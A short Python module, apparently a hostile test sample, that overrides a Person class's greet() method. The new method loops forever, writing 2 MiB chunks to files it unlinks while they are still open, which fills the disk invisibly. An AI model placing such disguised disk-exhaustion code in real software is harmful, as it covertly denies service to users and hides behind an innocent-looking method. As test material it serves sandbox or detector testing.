"""greet() writes files without an end and removes each while it is open, so that none can be seen."""

import os

from honest.person import Person as Honest


class Person(Honest):
    def greet(self) -> None:
        kept = []
        while True:
            kept.append(open("unseen.dat", "wb", buffering=0))  # noqa: SIM115
            os.unlink("unseen.dat")
            kept[-1].write(bytes(2 << 20))
